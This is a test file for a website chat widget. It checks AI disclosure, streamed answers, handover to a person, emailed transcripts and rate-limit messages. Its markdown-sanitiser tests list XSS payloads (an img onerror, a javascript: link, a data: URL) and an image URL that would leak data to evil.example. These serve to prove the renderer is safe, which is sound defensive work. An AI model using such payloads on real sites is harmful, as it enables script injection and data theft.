import { afterEach, beforeEach, expect, test, vi } from 'vitest'
import type { ChatEvent, ChatMessage, ChatStatus } from '@imperium/contract/chat.ts'
import { renderMarkdown } from './markdown.ts'
import { mountWidget } from './mount-widget.ts'
import { textOn } from './styles.ts'
import { chooseTexts } from './texts.ts'

const about = {
  title: 'Ask us',
  welcome: 'Hello!',
  agent: 'Helper',
  organization: 'Acme',
  accent: '#3b46d6',
  handsOver: true,
  mailsTranscript: true,
  isOpen: true,
}
const status: ChatStatus = { state: 'agent', isAnswering: false, hasFailed: false, isOpen: true, hasEmail: false }
const messageOf = (number: number, from: ChatMessage['from'], text: string): ChatMessage => ({
  id: `0197a000-0000-7000-8000-${String(number).padStart(12, '0')}`,
  from,
  sender: from === 'visitor' ? '' : from === 'agent' ? 'Helper' : 'Grace',
  text,
  at: '2026-11-24T10:00:00.000Z',
  sources: from === 'agent' ? [{ number: 1, title: 'Opening hours', url: 'https://shop.example/help/shop/articles/1' }] : [],
})

let calls: { url: string; method: string; headers: Record<string, string>; body: unknown }[] = []
let replies: Record<string, { status?: number; data?: unknown }> = {}
/** The open stream of events; the test writes into it. */
let stream: ReadableStreamDefaultController<Uint8Array> | null = null
const tell = (event: ChatEvent) => stream?.enqueue(new TextEncoder().encode(`event: ${event.type}\ndata: ${JSON.stringify(event)}\n\n`))

beforeEach(() => {
  localStorage.clear()
  calls = []
  stream = null
  replies = {
    'GET ': { data: about },
    'POST /sessions': { status: 201, data: { token: 'sealed' } },
    'GET /messages': { data: { messages: [], status } },
    'POST /messages': { status: 201, data: { message: messageOf(1, 'visitor', 'When do you open?'), status, notice: null } },
    'POST /person': { data: { ...status, state: 'waiting' } },
    'POST /transcript': { data: { status: { ...status, hasEmail: true }, asksCode: true } },
    'POST /transcript/code': { status: 422 },
  }
  vi.stubGlobal('fetch', async (url: string, init: RequestInit) => {
    const path = url.replace('https://host.example/api/public/chats/abc', '')
    const method = init.method ?? 'GET'
    calls.push({
      url,
      method,
      headers: init.headers as Record<string, string>,
      body: init.body ? JSON.parse(String(init.body)) : undefined,
    })
    if (path.startsWith('/events'))
      return new Response(new ReadableStream<Uint8Array>({ start: (controller) => void (stream = controller) }))
    const { status: code = 200, data } = replies[`${method} ${path}`] ?? { status: 404 }
    return new Response(JSON.stringify({ success: code < 400, data }), { status: code })
  })
})
afterEach(() => {
  vi.unstubAllGlobals()
  document.querySelector('imperium-chat')?.remove()
})

async function open(isPage = false) {
  const place = await mountWidget({ host: 'https://host.example', agent: 'abc', isPage, languages: ['en-GB'] })
  const root = place?.shadowRoot
  if (!root) throw new Error('nothing was mounted')
  const one = <E extends Element = HTMLElement>(selector: string): E => {
    const found = root.querySelector<E>(selector)
    if (!found) throw new Error(`there is no ${selector}`)
    return found
  }
  const write = (text: string) => {
    one<HTMLTextAreaElement>('textarea').value = text
    one('textarea').dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, cancelable: true }))
  }
  return { root, one, write }
}

test('opens by its button, says that it is an AI, closes with Escape and gives the focus back', async () => {
  const { root, one } = await open()
  const launch = one('.launch')
  expect([launch.getAttribute('aria-expanded'), one('.panel').hidden]).toEqual(['false', true])
  launch.click()
  expect([launch.getAttribute('aria-expanded'), one('.panel').hidden, root.activeElement]).toEqual(['true', false, one('textarea')])
  expect(one('header').textContent).toContain('You are talking to an AI')
  expect([one('.log').getAttribute('role'), one('.log').getAttribute('aria-live')]).toEqual(['log', 'polite'])
  expect(one('.log').textContent).toContain('Hello!')
  one('textarea').dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }))
  expect([one('.panel').hidden, root.activeElement]).toEqual([true, launch])
  expect(root.querySelector('[style]')).toBeNull()
})

test('sends, shows the answer as it is written, and then the whole of it once with its sources', async () => {
  const { root, one, write } = await open(true)
  write('When do you open?')
  await vi.waitFor(() => expect(stream).not.toBeNull(), 25_000)
  const sent = calls.find(({ method, url }) => method === 'POST' && url.endsWith('/messages'))
  expect(sent).toMatchObject({ headers: { 'x-chat-token': 'sealed' }, body: { text: 'When do you open?' } })
  tell({ type: 'status', status: { ...status, isAnswering: true } })
  tell({ type: 'text', part: 'a', delta: 'At **ni' })
  tell({ type: 'text', part: 'a', delta: 'ne**.' })
  await vi.waitFor(() => expect(one('.pending strong').textContent).toBe('nine'), 25_000)
  expect(one<HTMLButtonElement>('.main').disabled).toBe(true)
  tell({ type: 'message', message: messageOf(2, 'agent', 'At **nine** [1].') })
  tell({ type: 'message', message: messageOf(2, 'agent', 'At **nine** [1].') })
  tell({ type: 'status', status })
  await vi.waitFor(() => expect(one('.pending').hidden).toBe(true), 25_000)
  await vi.waitFor(() => expect(one<HTMLButtonElement>('.main').disabled).toBe(false), 25_000)
  expect([...root.querySelectorAll('.log .message')].map((each) => each.getAttribute('data-from'))).toEqual(['agent', 'visitor', 'agent'])
  expect(one('.sources').textContent).toBe('[1] Opening hours')
  expect(one<HTMLAnchorElement>('.sources a').href).toBe('https://shop.example/help/shop/articles/1')
})

test('a person is asked for; outside opening hours the visitor leaves an address', async () => {
  replies['POST /person'] = { data: { ...status, state: 'waiting', isOpen: false } }
  const { one } = await open(true)
  one('.foot button').click()
  await vi.waitFor(() => expect(one('.ask label').textContent).toContain('No one is here right now'), 25_000)
  one<HTMLInputElement>('.ask input').value = 'ada@example.com'
  replies['POST /person'] = { data: { ...status, state: 'waiting', isOpen: false, hasEmail: true } }
  one('.ask form, form.ask').dispatchEvent(new Event('submit', { cancelable: true }))
  await vi.waitFor(() => expect(one('.note').textContent).toContain('Thank you'), 25_000)
  expect(calls.at(-2)?.body ?? calls.at(-1)?.body).toEqual({ email: 'ada@example.com' })
  tell({ type: 'message', message: messageOf(3, 'person', 'Grace here.') })
  tell({ type: 'status', status: { ...status, state: 'person' } })
  await vi.waitFor(() => expect(one('header').textContent).toContain('You are talking to Grace.'), 25_000)
})

test('the conversation is mailed after the code of the address was entered; a wrong one is asked again', async () => {
  localStorage.setItem('imperium-chat:abc', 'sealed')
  const { one } = await open(true)
  const answer = (text: string) => {
    one<HTMLInputElement>('.ask input').value = text
    one('form.ask').dispatchEvent(new Event('submit', { cancelable: true }))
  }
  one('header .tool').click()
  answer('ada@example.com')
  await vi.waitFor(() => expect(one('.ask label').textContent).toContain('Enter the six digits'), 25_000)
  expect(one('.note').textContent).toContain('We sent a code')
  answer('000000')
  await vi.waitFor(() => expect(one('.note').textContent).toContain('wrong or has expired'), 25_000)
  replies['POST /transcript/code'] = { data: { ...status, hasEmail: true } }
  answer('123456')
  await vi.waitFor(() => expect(one('.note').textContent).toContain('on its way'), 25_000)
  expect(calls.at(-1)).toMatchObject({ method: 'POST', body: { code: '123456' } })
})

test('says why nothing follows, and shows nothing where this page may not show the chat', async () => {
  replies['POST /messages'] = { data: { message: messageOf(1, 'visitor', 'Hi'), status, notice: 'budget' } }
  const { one, write } = await open(true)
  write('Hi')
  await vi.waitFor(() => expect(one('.note').textContent).toContain('limit for today'), 25_000)
  replies['POST /messages'] = { status: 429 }
  write('Again')
  await vi.waitFor(() => expect(one('.note').textContent).toContain('wait a little'), 25_000)
  expect(one<HTMLTextAreaElement>('textarea').value).toBe('Again')
  replies['GET '] = { status: 403 }
  expect(await mountWidget({ host: 'https://host.example', agent: 'abc', isPage: false, languages: [] })).toBeNull()
})

const shown = (source: string): string => {
  const box = document.createElement('div')
  box.append(renderMarkdown(source))
  return box.innerHTML
}

test.each([
  ['<img src=x onerror=alert(1)>', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
  ['![pixel](https://evil.example/p?d=secret)', /^<p>pixel \(<a [^>]*>https:\/\/evil\.example\/p\?d=secret<\/a>\)<\/p>$/],
  ['[Click](javascript:alert(1))', /^<p>Click \(javascript:alert\(1\)?\)+<\/p>$/],
  ['[Bank](https://evil.example)', /^<p>Bank \(<a [^>]*rel="noopener noreferrer nofollow"[^>]*>https:\/\/evil\.example<\/a>\)<\/p>$/],
  ['[x](data:text/html,hi)', '<p>x (data:text/html,hi)</p>'],
  ['See https://shop.example/a.', /^<p>See <a [^>]*>https:\/\/shop\.example\/a<\/a>\.<\/p>$/],
  ['# Title\n- a\n- **b**\n\n1. c', '<p><strong>Title</strong></p><ul><li>a</li><li><strong>b</strong></li></ul><ol><li>c</li></ol>'],
  ['```html\n<b>\n```\n`x` *y*', '<pre><code>&lt;b&gt;</code></pre><p><code>x</code> <em>y</em></p>'],
  ['one\ntwo', '<p>one<br>two</p>'],
])('markdown %s', (source, expected) => {
  const html = shown(source)
  expect(typeof expected === 'string' ? html === expected : expected.test(html), html).toBe(true)
  expect(html).not.toMatch(/<(img|script|iframe)|href="(javascript|data)/)
})

test('speaks the first of the wanted languages that it knows, and is read on any accent', () => {
  expect([chooseTexts(['nl', 'de-AT', 'en']).language, chooseTexts(['nl']).language]).toEqual(['de', 'en'])
  expect([textOn('#ffffff'), textOn('#000000'), textOn('#3b46d6'), textOn('#ffd400')]).toEqual(['#101014', '#ffffff', '#ffffff', '#101014'])
})
